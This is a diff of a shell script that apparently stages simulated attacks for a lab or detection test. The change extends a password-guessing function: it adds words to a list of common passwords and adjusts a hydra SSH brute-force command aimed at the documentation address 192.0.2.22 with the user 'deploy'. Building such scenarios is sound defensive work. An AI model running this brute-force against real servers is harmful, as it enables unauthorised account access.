@@ -1,9 +1,9 @@
 # The attacks more than one scenario plays. Each has a source address of its own.
 
-write_guesses() { # 60 usual passwords, then the right one
+write_guesses() { # 80 usual passwords, then the right one
   printf '%s\n' 123456 password admin letmein qwerty welcome monkey dragon master login abc123 \
     starwars passw0rd shadow 654321 superman michael football trustno1 iloveyou >"$work/guesses"
-  for word in deploy backup server Welcome1; do
+  for word in deploy backup server office Welcome1 Summer; do
     for tail in '' 1 12 123 2024 2025 2026 '!' '1!' '#1'; do echo "$word$tail"; done
   done >>"$work/guesses"
   echo 'Autumn-2026!' >>"$work/guesses"
@@ -11,7 +11,7 @@ write_guesses() { # 60 usual passwords, then the right one
 
 guess_passwords() {
   write_guesses
-  inside guesser hydra -I -t 4 -f -l deploy -P "$work/guesses" ssh://192.0.2.22 >"$work/hydra.log" 2>&1
+  inside guesser hydra -I -t 4 -w 4 -f -l deploy -P "$work/guesses" ssh://192.0.2.22 >"$work/hydra.log" 2>&1
   grep 'password:\|attempts\|valid password' "$work/hydra.log"
 }
 
